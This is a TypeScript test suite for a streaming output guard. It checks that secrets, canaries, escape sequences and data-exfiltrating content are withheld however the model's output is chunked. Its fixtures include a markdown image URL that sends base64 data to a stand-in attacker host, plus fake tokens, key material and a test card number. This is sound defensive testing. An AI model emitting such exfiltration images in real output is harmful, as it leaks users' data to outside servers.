/**
 * The output stream's promise: whatever the chunking, nothing a detector would block or redact is ever
 * released, and clean text comes out exactly as it went in.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createGuard } from '../../src/guard/guard.ts';
import { holdbackWindow } from '../../src/guard/stream.ts';
import { mulberry32, randomChunks } from '../fixtures/prng.ts';

const guard = createGuard();
const CANARY = 'pcn-7f3a9c21d4e8b605';
// A made-up key in the GitHub classic-token format (ghp_ + 36 alphanumerics).
const TOKEN = 'ghp_R2d2C3poBb8Lk1Mn0Qx7Zt4Vw9Yu6Js5Hg3F';

function filler(random: () => number, words: number): string {
  const vocab = [
    'the',
    'model',
    'answer',
    'is',
    'here',
    'with',
    'some',
    'detail',
    'about',
    'weights',
    'and',
    'data',
  ];
  const out: string[] = [];
  for (let i = 0; i < words; i++) out.push(vocab[Math.floor(random() * vocab.length)] ?? 'x');
  return out.join(' ');
}

function stream(text: string, random: () => number, max: number, context = {}) {
  const s = guard.outputStream(context);
  let released = '';
  let action = 'allow';
  for (const c of randomChunks(text, random, max)) {
    const step = s.push(c);
    released += step.release;
    action = step.action;
  }
  const last = s.end();
  released += last.release;
  if (last.action !== 'allow') action = last.action;
  return { released, action };
}

test('clean text streams out unchanged whatever the chunk sizes', () => {
  const random = mulberry32(7);
  for (let round = 0; round < 20; round++) {
    const text = filler(random, 50 + Math.floor(random() * 3000));
    const { released, action } = stream(text, random, 1 + Math.floor(random() * 64));
    assert.equal(action, 'allow');
    assert.equal(released, text);
  }
});

test('a secret split across chunks is never released, and the rest of the text is', () => {
  const random = mulberry32(11);
  for (let round = 0; round < 40; round++) {
    const before = filler(random, Math.floor(random() * 1500));
    const after = filler(random, Math.floor(random() * 1500));
    const text = `${before} token ${TOKEN} ${after}`;
    const { released, action } = stream(text, random, 1 + Math.floor(random() * 40));
    assert.equal(action, 'redact');
    assert.ok(!released.includes(TOKEN.slice(4, 20)), `round ${round} leaked part of the token`);
    assert.ok(released.startsWith(before), 'text before the secret is released');
    assert.ok(released.endsWith(after), 'text after the secret is released');
  }
});

test('a canary leak blocks the stream before any of the canary is released', () => {
  const random = mulberry32(13);
  for (let round = 0; round < 40; round++) {
    const text = `${filler(random, Math.floor(random() * 2000))} ${CANARY} ${filler(random, 200)}`;
    const { released, action } = stream(text, random, 1 + Math.floor(random() * 32), { canaries: [CANARY] });
    assert.equal(action, 'block');
    assert.ok(!released.includes('pcn-7f3a'), `round ${round} released the canary's start`);
  }
});

test('a markdown image exfiltrating data is not released even one character at a time', () => {
  const random = mulberry32(17);
  const image = '![status](https://collector.evil.example/log?d=c2VjcmV0LXRva2VuLWhlcmU)';
  const text = `${filler(random, 300)} ${image} ${filler(random, 300)}`;
  const { released, action } = stream(text, random, 1);
  assert.notEqual(action, 'allow');
  assert.ok(!released.includes('collector.evil.example/log?d='));
});

test('an escaped terminal sequence split across chunks is not released', () => {
  const random = mulberry32(19);
  for (let round = 0; round < 20; round++) {
    const text = `${filler(random, 200)} \\x1b[2K\\x1b[1A ${filler(random, 200)}`;
    const { released, action } = stream(text, random, 1 + Math.floor(random() * 8));
    assert.equal(action, 'redact');
    assert.ok(
      !released.includes('\\x1b[') && !released.includes('[2K'),
      `round ${round} released part of it`,
    );
  }
});

test('the stream holds back no more than the largest detector window', () => {
  const window = holdbackWindow(guard.detectors.filter((d) => d.meta.directions.includes('output')));
  const s = guard.outputStream();
  const text = 'a '.repeat(20_000);
  let released = 0;
  for (let i = 0; i < text.length; i += 100) released += s.push(text.slice(i, i + 100)).release.length;
  assert.ok(
    text.length - released <= window + Math.max(256, window / 4) + 100,
    `held back ${text.length - released}`,
  );
  assert.equal(released + s.end().release.length, text.length);
});

test('clean prose is released while the model is still writing, a few tokens behind', () => {
  const random = mulberry32(23);
  const text = `${filler(random, 400)}.`;
  const s = guard.outputStream();
  let released = 0;
  let worstLag = 0;
  let pushed = 0;
  for (const c of randomChunks(text, random, 6)) {
    pushed += c.length;
    released += s.push(c).release.length;
    if (pushed > 200) worstLag = Math.max(worstLag, pushed - released);
  }
  released += s.end().release.length;
  assert.equal(released, text.length);
  // The step (48) plus the word being written; nothing like the 4,096-character window a PEM key needs.
  assert.ok(worstLag < 80, `lagged ${worstLag} characters`);
});

test('a private key, a key assignment and a card number split one character at a time never leak', () => {
  const random = mulberry32(29);
  const pem = [
    '-----BEGIN PRIVATE KEY-----',
    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
    'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu',
    '-----END PRIVATE KEY-----',
  ].join('\n');
  const cases = [
    { secret: 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj', text: pem },
    { secret: 'Zx81Lq0PmW7vBt2K', text: 'set api_key = "Zx81Lq0PmW7vBt2Kd4Rc9sYe" in the file' },
    { secret: '1111 1111', text: 'card 4111 1111 1111 1111 expires soon' },
  ];
  for (const c of cases) {
    for (const max of [1, 3, 17]) {
      const text = `${filler(random, 80)} ${c.text} ${filler(random, 80)}`;
      const { released, action } = stream(text, random, max);
      assert.notEqual(action, 'allow', c.text);
      assert.ok(!released.includes(c.secret), `${c.secret} leaked with chunks of ${max}`);
    }
  }
});

test('a long stream keeps memory bounded (text is trimmed behind the release point)', () => {
  const s = guard.outputStream();
  const piece = 'lorem ipsum dolor sit amet '.repeat(40);
  let out = 0;
  for (let i = 0; i < 2000; i++) out += s.push(piece).release.length;
  out += s.end().release.length;
  assert.equal(out, piece.length * 2000);
});
